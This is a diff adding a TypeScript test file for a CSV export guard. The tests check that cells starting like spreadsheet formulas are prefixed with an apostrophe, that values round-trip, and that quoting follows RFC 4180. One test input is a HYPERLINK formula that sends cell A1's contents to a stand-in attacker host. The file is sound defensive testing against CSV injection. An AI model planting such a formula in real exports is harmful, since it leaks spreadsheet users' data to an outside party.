@@ -1,0 +1,56 @@
+import { parse } from 'csv-parse/sync';
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { csvRow, unguarded } from './csv.ts';
+
+const read = (row: string): string[] =>
+  parse(row, { relax_column_count: true })[0] as unknown as string[];
+
+describe('a cell that a spreadsheet would run begins with an apostrophe [exports.safe]', () => {
+  test.each([
+    '=1+1',
+    '+234 803',
+    '-1',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    '\n=1',
+    '  =1',
+    '＝1+1',
+    '＋1',
+    '－1',
+    '＠SUM',
+    "'=1",
+    "' =1",
+    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
+  ])('%j', (value) => {
+    expect(read(csvRow(['x', value]))).toEqual(['x', `'${value}`]);
+  });
+
+  test.each(['Amara', "'s-Hertogenbosch", 'a=b', '1-2', 'x@y.example', '’=1', ''])(
+    'but not %j',
+    (value) => {
+      expect(read(csvRow(['x', value]))).toEqual(['x', value]);
+    },
+  );
+});
+
+const nasty = fc.stringMatching(/^[=+\-@＝'"\t\r\n ,;ab🪨]{0,8}$/u);
+
+test('every value comes back as it was, and none begins like a formula [exports.safe exports.round-trip]', () => {
+  fc.assert(
+    fc.property(
+      fc.array(fc.oneof(nasty, fc.string({ unit: 'grapheme' })), { minLength: 2 }),
+      (cells) => {
+        const kept = read(csvRow(['x', ...cells])).slice(1);
+        expect(kept.map(unguarded)).toEqual(cells);
+        for (const cell of kept) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]|^[\t\r\n]/);
+      },
+    ),
+    { numRuns: 2_000 },
+  );
+});
+
+test('a row ends with CR LF, and quotes what RFC 4180 quotes', () => {
+  expect(csvRow(['a', 'b,c', 'd"e', 'f\ng', ' h'])).toBe('a,"b,c","d""e","f\ng"," h"\r\n');
+});
